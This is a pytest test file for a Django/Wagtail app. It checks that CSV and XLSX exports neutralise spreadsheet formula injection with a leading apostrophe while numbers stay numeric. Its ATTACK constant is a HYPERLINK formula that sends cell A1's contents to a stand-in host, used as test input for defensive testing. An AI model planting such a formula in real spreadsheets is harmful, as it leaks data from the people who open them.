"""Formula injection (issue 10): every CSV and XLSX the system writes defuses text that a spreadsheet
would run as a formula (starting with =, +, -, @, tab or CR) by a leading apostrophe; numbers stay
numbers. Wagtail's listing exports, our own exports and the figures template alike."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts import roles
from config.spreadsheets import FORMULA_START, neutralise
from tests.factories import ActionFactory, OrganisationFactory, ProgressNoteFactory, UserFactory

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")'


def csv_cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def xlsx_cells(response) -> list[list]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_defused(cells: list[list]) -> None:
    texts = [cell for row in cells for cell in row if isinstance(cell, str)]
    assert "'" + ATTACK in texts
    assert not [text for text in texts if text.startswith(FORMULA_START)]


@pytest.mark.parametrize("start", FORMULA_START)
def test_neutralise_defuses_text_and_keeps_numbers(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("gewone tekst") == "gewone tekst"
    assert neutralise(-3) == -3


@pytest.fixture
def beheerder_client(client, db):
    client.force_login(UserFactory(username="beheerder-formule", roles=[roles.BEHEERDER]))
    return client


@pytest.fixture
def attack_action(db):
    lead = OrganisationFactory(short_name="@Org", name="+Organisatie")
    action = ActionFactory(title=ATTACK, description="-1+2", lead=lead)
    ProgressNoteFactory(action=action, text=ATTACK)
    return action


@pytest.mark.parametrize(
    "url",
    [
        "/admin/actieplan/standen-van-zaken/",
        "/admin/actieplan/acties/",
        "/admin/actieplan/organisaties/",
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtail_listing_exports_defuse_formulas(beheerder_client, attack_action, url, fmt):
    response = beheerder_client.get(f"{url}?export={fmt}")
    assert response.status_code == 200
    cells = csv_cells(response) if fmt == "csv" else xlsx_cells(response)
    if "organisaties" in url:
        assert ["'@Org", "'+Organisatie"] == [cells[1][0], cells[1][1]]
        assert not [c for row in cells for c in row if isinstance(c, str) and c.startswith(FORMULA_START)]
    else:
        assert_defused(cells)


def test_wagtail_export_keeps_numbers_as_numbers(beheerder_client, attack_action):
    cells = xlsx_cells(beheerder_client.get("/admin/actieplan/standen-van-zaken/?export=xlsx"))
    years = [row[1] for row in cells[1:]]
    assert years and all(isinstance(year, int) for year in years)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_review_export_defuses_formulas(client, attack_action, fmt):
    client.force_login(UserFactory(username="tafel-formule", roles=[roles.REGIONALE_TAFEL]))
    response = client.get(f"/admin/regionale-tafel/export/{fmt}/")
    assert response.status_code == 200
    cells = csv_cells(response) if fmt == "csv" else xlsx_cells(response)
    assert_defused(cells)
